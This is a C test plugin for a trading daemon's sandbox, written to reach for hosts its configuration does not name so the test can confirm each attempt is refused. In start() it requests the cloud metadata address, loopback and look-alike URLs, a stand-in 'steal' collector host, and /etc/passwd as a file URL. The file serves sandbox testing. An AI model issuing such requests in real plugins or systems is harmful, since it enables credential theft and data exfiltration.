/*
 * hostile_net.c -- an exchange adapter that reaches for hosts its
 * configuration does not name.  Run sandboxed by tests/sandbox/hostile_net.sh:
 * in start() it tries each target below and logs "reach N: status", then
 * keeps its configured WebSocket open and emits a trade for every message,
 * so the test sees the allowed path work and every other one refused.
 * It also asks for a file as recorded market data.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <quantd/sdk.h>

struct hn {
	const struct qd_host_api *api;
	qd_ctx *ctx;
	char ws_url[256], rest_url[256];
	uint64_t conn;
	uint64_t n;
};

static int
hn_create(const struct qd_host_api *api, qd_ctx *ctx, const qd_params *p,
	void **state)
{
	struct hn *h = calloc(1, sizeof(*h));

	if (h == NULL)
		return QD_ERR_NOMEM;
	h->api = api;
	h->ctx = ctx;
	snprintf(h->ws_url, sizeof(h->ws_url), "%s",
		api->param_string(p, "ws_url"));
	snprintf(h->rest_url, sizeof(h->rest_url), "%s",
		api->param_string(p, "rest_url"));
	*state = h;
	return QD_OK;
}

static int
get(struct hn *h, const char *url)
{
	struct qd_http_request r;
	uint64_t id;

	memset(&r, 0, sizeof(r));
	r.size = sizeof(r);
	r.method = "GET";
	r.url = url;
	return h->api->http_request(h->ctx, &r, &id);
}

static int
hn_start(void *state)
{
	struct hn *h = state;
	char url[512], port[16];
	const char *colon = strrchr(h->ws_url, ':');
	uint64_t c;
	int rc[8], i;

	/* The configured port, for look-alike targets. */
	snprintf(port, sizeof(port), "%s", colon ? colon + 1 : "");
	port[strcspn(port, "/")] = '\0';
	rc[0] = h->api->ws_open(h->ctx, h->ws_url, NULL, 0, &h->conn);
	snprintf(url, sizeof(url), "%s/api/v3/ping", h->rest_url);
	rc[1] = get(h, url);
	rc[2] = h->api->ws_open(h->ctx, "ws://127.0.0.1:1/", NULL, 0, &c);
	rc[3] = get(h, "http://169.254.169.254/latest/meta-data/");
	snprintf(url, sizeof(url), "ws://127.0.0.1:%s@127.0.0.2:%s/", port,
		port);
	rc[4] = h->api->ws_open(h->ctx, url, NULL, 0, &c);
	rc[5] = get(h, "https://collector.invalid/steal?k=v");
	snprintf(url, sizeof(url), "http://localhost:%s/", port);
	rc[6] = get(h, url);
	rc[7] = h->api->ws_open(h->ctx, "file:///etc/passwd", NULL, 0, &c);
	for (i = 0; i < 8; i++)
		h->api->log(h->ctx, QD_LOG_INFO, "reach %d: %s", i,
			qd_strerror(rc[i]));
	/* Recorded data: a file its configuration does not name. */
	{
		uint32_t tf;

		h->api->log(h->ctx, QD_LOG_INFO, "history of a file not named: %s",
			qd_strerror(h->api->history_open(h->ctx,
			"file:/etc/passwd", &tf, &c)));
	}
	return QD_OK;
}

static void
hn_on_ws_message(void *state, uint64_t conn, const char *data, size_t len)
{
	struct hn *h = state;
	struct qd_trade_event t;

	(void)data;
	(void)len;
	if (conn != h->conn)
		return;
	memset(&t, 0, sizeof(t));
	t.size = sizeof(t);
	t.symbol = h->api->symbol_intern(h->ctx, "BTC/USDT");
	t.side = QD_SIDE_BUY;
	t.ts = h->api->now_ns(h->ctx);
	t.price = 100;
	t.qty = 1;
	t.trade_id = ++h->n;
	h->api->emit_trade(h->ctx, &t);
}

static int
hn_subscribe(void *state, qd_symbol sym, uint32_t tf)
{
	(void)state;
	(void)sym;
	(void)tf;
	return QD_OK;
}

static void
hn_destroy(void *state)
{
	free(state);
}

static const struct qd_exchange_ops hn_ops = {
	.base = {
		.size = sizeof(struct qd_exchange_ops),
		.create = hn_create,
		.start = hn_start,
		.destroy = hn_destroy,
	},
	.subscribe = hn_subscribe,
	.on_ws_message = hn_on_ws_message,
};

static const struct qd_param_spec hn_params[] = {
	QD_PARAM_STRING_SPEC("ws_url", "", "WebSocket URL"),
	QD_PARAM_STRING_SPEC("rest_url", "", "REST base URL"),
};

static const struct qd_plugin hn_plugin = {
	.size = sizeof(struct qd_plugin),
	.kind = QD_KIND_EXCHANGE,
	.name = "hostile-net",
	.version = "0.1.0",
	.description = "reaches for hosts its configuration does not name",
	.license = "MIT",
	.params = hn_params,
	.n_params = QD_COUNTOF(hn_params),
	.ops = &hn_ops,
};

static const struct qd_plugin *const plugins[] = { &hn_plugin, NULL };

QD_MODULE(plugins);
